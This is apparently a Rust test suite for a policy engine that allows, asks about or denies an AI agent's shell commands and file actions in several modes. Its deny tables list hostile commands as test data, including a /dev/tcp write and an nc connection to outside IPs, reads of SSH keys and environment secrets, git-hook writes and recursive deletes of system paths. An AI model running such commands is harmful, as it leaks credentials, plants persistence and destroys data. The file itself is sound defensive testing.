//! What each mode makes of an action, and what consent changes.

use super::*;

#[track_caller]
fn in_modes(command: &str, expected: [Verdict; 4]) {
    let modes = [Mode::Plan, Mode::Ask, Mode::Auto, Mode::Strict];
    for (mode, expected) in modes.into_iter().zip(expected) {
        let context = Context { mode, person_present: true, ..Context::default() };
        let judgement = judge(&shipped(), &run(command), &context);
        assert_eq!(judgement.verdict, expected, "{mode:?} {command:?}: {}", judgement.message());
    }
}

use Verdict::{Allow, Ask, Deny};

#[test]
fn each_mode_makes_its_own_of_a_command_that_no_rule_speaks_for() {
    in_modes("ls -la", [Allow, Allow, Allow, Allow]);
    in_modes("pytest -q", [Deny, Allow, Allow, Allow]);
    in_modes("frobnicate --all", [Deny, Ask, Allow, Deny]);
    in_modes("rm build/x.o", [Deny, Ask, Allow, Deny]);
    in_modes("echo a > b.txt", [Deny, Ask, Allow, Deny]);
    in_modes("cd src && ls", [Deny, Ask, Allow, Deny]);
    in_modes("cat a.py # as it is", [Allow, Allow, Allow, Allow]);
    in_modes("echo \"$HOME\" $?", [Allow, Allow, Allow, Allow]);
    in_modes("git reset --hard", [Deny, Deny, Deny, Deny]);
    in_modes("cat .env", [Deny, Deny, Deny, Deny]);
    in_modes("curl https://example.invalid/x", [Deny, Deny, Deny, Deny]);
    in_modes("rm $x", [Deny, Deny, Deny, Deny]);
    in_modes("$(echo rm) x", [Deny, Deny, Deny, Deny]);
}

#[test]
fn plan_mode_leaves_the_reading_tools_alone() {
    let context = Context { mode: Mode::Plan, person_present: true, ..Context::default() };
    for action in [read("a.py"), Action::Search { query: "x".into() }, Action::Finish, run("git diff | head -5")] {
        assert_eq!(judge(&shipped(), &action, &context).verdict, Allow, "{action:?}");
    }
    for action in [write("a.py"), Action::EditFile { path: "a.py".into() }, Action::RunTests, run("python3 a.py")] {
        let judgement = judge(&shipped(), &action, &context);
        assert_eq!((judgement.verdict, judgement.layer), (Deny, Layer::Mode), "{action:?}");
    }
}

#[test]
fn in_auto_the_effects_of_a_command_are_judged_as_those_of_the_tools() {
    let denied = [
        ("cp a.yml .github/workflows/a.yml", Some("paths.ci")),
        ("cp a.yml .github/workflows", Some("paths.ci")),
        ("mv .git/HEAD x", Some("paths.git")),
        ("echo x > .git/hooks/pre-commit", Some("paths.git")),
        ("echo x >> .envrc", Some("paths.editor-and-agent-settings")),
        ("cd .git && rm -rf hooks", Some("paths.git")),
        ("tee .git/hooks/pre-commit < a", Some("paths.git")),
        ("sed -i s/a/b/ .github/workflows/ci.yml", Some("paths.ci")),
        ("sed -e s/a/b/ -i Jenkinsfile", Some("paths.ci")),
        ("dd if=a of=.git/config", Some("paths.secrets")),
        ("install -m 755 a .git/hooks", Some("paths.git")),
        ("ln -s ../x .git/hooks/x", Some("paths.git")),
        ("touch .vscode/tasks.json", Some("paths.editor-and-agent-settings")),
        ("tar -xf a.tar -C .git", Some("paths.git")),
        ("tar xf a.tar", Some("paths.top")),
        ("gcc a.c -o .git/hooks/post-merge", Some("paths.git")),
        ("truncate -s 0 .gitattributes", Some("paths.git")),
        ("chmod +x .husky/x", Some("paths.editor-and-agent-settings")),
        ("env A=b sudo -u x cp a .git/hooks/b", Some("paths.git")),
        ("bash -c 'cp a .git/hooks/b'", Some("paths.git")),
        ("find . -name '.git*' -exec rm -rf {} +", Some("paths.secrets")),
        ("find . -type f -delete", Some("paths.top")),
        ("find . -exec rm {} +", Some("paths.top")),
        ("rm -rf *", Some("paths.top")),
        ("rm -rf ./", Some("paths.top")),
        ("rm -rf /var", Some("paths.system")),
        ("rm -rf ../../etc", Some("paths.system")),
        ("cd / && rm -rf usr", Some("paths.system")),
        ("cd /tmp; cd ..; rm -rf etc", Some("paths.system")),
        ("cat /proc/self/environ", Some("paths.system-secrets")),
        ("cat /tmp/.env", Some("paths.secrets")),
        ("cat /root/.ssh/id_rsa", Some("paths.secrets")),
        ("git config core.pager evil", Some("paths.secrets")),
        ("git checkout -- .", Some("paths.top")),
        ("git checkout .", Some("paths.top")),
        ("git push origin +main", None),
        ("ls | xargs rm", None),
        ("echo --hard | xargs git reset", None),
        ("xargs sh -c", None),
        ("echo x | python3", None),
        ("python3 <<E\nx\nE", None),
        ("awk 'BEGIN{system(\"id\")}'", None),
        ("sed 's/a/b/e' a", None),
        ("sed -n '1w x' a", None),
        ("tar cf x.tar --checkpoint-action=exec=id .", None),
        ("LD_PRELOAD=./x.so ls", None),
        ("PATH=. ls", None),
        ("alias ls=rm", None),
        ("cd $x && ls", None),
        ("parallel rm ::: x", None),
        ("echo x > /dev/tcp/192.0.2.1/80", None),
        ("python3.11 -c x", None),
        ("env -S 'rm -rf /home'", None),
        ("sudo -s", None),
        ("busybox sh -c 'rm -rf /home'", Some("paths.system")),
        ("find . -exec sh -c 'rm $0' {} ';'", None),
        ("trap 'rm -rf /home' EXIT", Some("paths.system")),
        ("time nice -n 3 git clean -fd", Some("danger.git-loses-files")),
        ("watch 'git reset --hard'", Some("danger.interactive")),
        ("split a .git/hooks/x", Some("paths.git")),
        ("sort -o.gitattributes a", Some("paths.git")),
        (": > .gitmodules", Some("paths.git")),
        ("wget -i list.txt", None),
        ("nc 192.0.2.1 80", None),
        ("ssh user@example.invalid ls", None),
        ("scp a.py example.invalid:/tmp", None),
        ("git clone https://example.invalid/x.git", None),
        ("git clone git@example.invalid:x.git", None),
        ("git -C . push https://example.invalid/x", None),
        ("git remote add x ssh://example.invalid/x", None),
        ("pip install --index-url https://example.invalid/simple x", None),
        ("pip install git+https://example.invalid/x", None),
        ("foo --url=https://example.invalid/", None),
        ("timeout 5 curl example.invalid", None),
    ];
    let context = Context { mode: Mode::Auto, ..Context::default() };
    let policy = shipped();
    let mut wrong = Vec::new();
    for (command, rule) in denied {
        let judgement = judge(&policy, &run(command), &context);
        if (judgement.verdict, judgement.rule.as_deref()) != (Deny, rule) {
            wrong.push(format!("{command:?}: {:?} {}", judgement.verdict, judgement.message()));
        }
    }
    let allowed = [
        "cp a.py b.py",
        "mkdir -p build && cd build && cmake ..",
        "cat src/a.py | sed 's/a/b/g' | awk '{print $2}' | sort -u > out.txt",
        "find . -name '*.pyc' -delete",
        "sed -i 's/old/new/' src/a.py",
        "tar -xf a.tar -C /tmp/x",
        "timeout -s KILL 60 nice -n 5 make -j4",
        "git add -A && git commit -m 'see https://example.invalid/1'",
        "if test -f a.py; then python3 a.py; else echo none; fi",
        "python3 a.py <<< 'some input'",
        "PYTHONPATH=. RUST_BACKTRACE=1 python3 -m pytest -q 2>&1 | tail -5",
        "ls *.py | xargs wc -l",
        "bash run.sh --fast",
        "bash -c 'ls && git status'",
        "gcc -Wall a.c -o a.out",
        "cat > notes.txt <<'EOF'\n$HOME `x`\nEOF",
        "",
    ];
    for command in allowed {
        let judgement = judge(&policy, &run(command), &context);
        if judgement.verdict != Allow {
            wrong.push(format!("{command:?}: {}", judgement.message()));
        }
    }
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

#[test]
fn a_host_that_a_rule_allows_is_reached_at_its_port_only() {
    let rules = "[[host]]\nid = \"h\"\nverdict = \"allow\"\nhost = [\"*.example.invalid\"]\nport = [443]\n\
                 match = [\"a.example.invalid:443\"]\nnot_match = [\"a.example.invalid:80\", \"example.test\"]\n";
    let policy = Policy::parse("a", &format!("{SHIPPED_POLICY}\n{rules}")).unwrap();
    let context = Context { mode: Mode::Auto, ..Context::default() };
    let verdict = |command: &str| judge(&policy, &run(command), &context).verdict;
    assert_eq!(verdict("curl -sS https://a.example.invalid/x -o x.json"), Allow);
    assert_eq!(verdict("git fetch https://user@A.example.invalid./x"), Allow);
    assert_eq!(verdict("curl http://a.example.invalid/x"), Deny);
    assert_eq!(verdict("curl https://a.example.invalid/x -o .git/hooks/x"), Deny);
    assert_eq!(verdict("curl https://a.example.invalid@b.test/x"), Deny);
    assert_eq!(verdict("curl https://b.test/a.example.invalid"), Deny);
    let judgement = judge(&shipped(), &run("curl http://b.test/"), &context);
    assert_eq!(
        judgement.message(),
        "[host policy] connecting to `b.test` is refused: the box has no network\nInstead: use what is in the repository"
    );
}

const ASKS: &str =
    "version = 1\n[[path]]\nid = \"p\"\nverdict = \"ask\"\naccess = [\"write\"]\nglob = [\"migrations/**\"]\n";

#[test]
fn consent_turns_ask_into_allow_and_never_deny() {
    let policy = shipped().tightened("p", ASKS).unwrap();
    let mut grants = Grants::default();
    for action in [write("./migrations//1.sql"), run("frobnicate"), read(".env"), run("git reset --hard")] {
        grants.grant(&action);
    }
    let verdict = |mode, action: &Action| {
        let context = Context { mode, person_present: true, grants: &grants, ..Context::default() };
        judge(&policy, action, &context).verdict
    };
    assert_eq!(verdict(Mode::Ask, &write("migrations/1.sql")), Allow);
    assert_eq!(verdict(Mode::Auto, &write("migrations/1.sql")), Allow);
    assert_eq!(verdict(Mode::Strict, &write("migrations/1.sql")), Deny);
    assert_eq!(verdict(Mode::Plan, &write("migrations/1.sql")), Deny);
    assert_eq!(verdict(Mode::Ask, &write("migrations/2.sql")), Ask);
    assert_eq!(verdict(Mode::Auto, &write("migrations/2.sql")), Deny);
    assert_eq!(verdict(Mode::Ask, &run("frobnicate")), Allow);
    assert_eq!(verdict(Mode::Ask, &run("frobnicate ")), Ask, "exactly as it was written");
    assert_eq!(verdict(Mode::Ask, &read(".env")), Deny);
    assert_eq!(verdict(Mode::Ask, &run("git reset --hard")), Deny);
    let context = Context { mode: Mode::Ask, person_present: true, grants: &grants, ..Context::default() };
    let judgement = judge(&policy, &write("migrations/1.sql"), &context);
    assert!(judgement.trace.contains(&Step { layer: Layer::Grants, verdict: Allow, rule: None }));
    assert!(judgement.trace.contains(&Step { layer: Layer::Project, verdict: Ask, rule: Some("p".into()) }));
}

#[test]
fn what_hooks_and_the_monitor_say_only_tightens() {
    let said = |verdict| Said {
        layer: Layer::Hooks,
        verdict,
        rule: "h".into(),
        reason: "a hook says so".into(),
        instead: String::new(),
    };
    let verdict = |said: &[Said], action: &Action| {
        let context = Context { mode: Mode::Ask, person_present: true, said, ..Context::default() };
        judge(&shipped(), action, &context).verdict
    };
    assert_eq!(verdict(&[said(Allow)], &read(".env")), Deny);
    assert_eq!(verdict(&[said(Allow)], &run("frobnicate")), Ask);
    assert_eq!(verdict(&[said(Ask)], &read("a.py")), Ask);
    assert_eq!(verdict(&[said(Allow), said(Deny)], &read("a.py")), Deny);
}

/// A stricter mode is never looser, where no rule asks.
#[test]
fn strict_is_never_looser_than_auto_or_ask() {
    let commands =
        ["ls", "rm x", "git status", "frobnicate", "cat .env", "a=b", "echo $x", "cat < a", "(ls)", "git reset --hard"];
    for command in commands {
        let verdict = |mode| {
            let context = Context { mode, person_present: true, ..Context::default() };
            judge(&shipped(), &run(command), &context).verdict
        };
        assert!(verdict(Mode::Strict) >= verdict(Mode::Ask), "{command}");
        assert!(verdict(Mode::Ask) >= verdict(Mode::Auto), "{command}");
        assert!(verdict(Mode::Plan) >= verdict(Mode::Auto), "{command}");
    }
}

#[test]
fn a_megabyte_of_random_bytes_gives_a_verdict() {
    let mut state = 1_u32;
    let mut byte = || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 24) as u8
    };
    let bytes: Vec<u8> = (0..1 << 20).map(|_| byte()).collect();
    let text = String::from_utf8_lossy(&bytes).into_owned();
    for action in [run(&text), read(&text), write(&text), run(&format!("echo '{}'", "a ".repeat(1 << 19)))] {
        assert_eq!(judged(&action).verdict, Deny);
    }
}
